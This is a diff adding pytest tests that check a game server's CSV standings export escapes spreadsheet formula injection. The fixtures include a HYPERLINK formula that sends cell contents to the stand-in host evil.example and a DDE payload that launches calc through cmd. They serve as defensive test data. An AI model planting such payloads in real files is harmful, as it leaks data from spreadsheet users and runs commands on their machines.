@@ -9,6 +9,7 @@ import zipfile
 import pytest
 
 import engine
+from pbem.csv_cells import safe_cell
 from pbem.leagues.seasons import start_season
 from pbem.services import accounts
 from tests.server.leagues.test_seasons import league_of, play_out
@@ -63,3 +64,32 @@ def test_the_document_gives_each_export_its_content_type(api):
     assert (
         "application/json" in paths[f"{base}/standings.json"]["get"]["responses"]["200"]["content"]
     )
+
+
+def test_a_name_that_is_a_formula_stays_text_in_the_csv(api, session, make_user):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    _, league, (eve, bob, cem) = league_of(session, make_user, [formula, "Bob", "Cem"])
+    bob.name, cem.name = "@SUM(A1)", "-Cem"
+    start_season(session, league)
+    session.commit()
+    token = accounts.issue_api_token(session, eve, "tests")
+    session.commit()
+    table = api.call("getSeasonStandingsCsv", token, league_id=league.public_id, season=1)
+    players = {r["player"] for r in csv.DictReader(io.StringIO(table.get_data(as_text=True)))}
+    assert players == {"'" + formula, "'@SUM(A1)", "'-Cem"}
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("\tcmd", "'\tcmd"),
+        ("\r=1+1", "'\r=1+1"),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-3/2", "-3/2"),  # a score, as the tables write fractions
+        ("-1.5", "-1.5"),
+        (-2, -2),
+        ("Ann = Bob", "Ann = Bob"),
+    ],
+)
+def test_only_cells_that_start_a_formula_are_changed(cell, written):
+    assert safe_cell(cell) == written
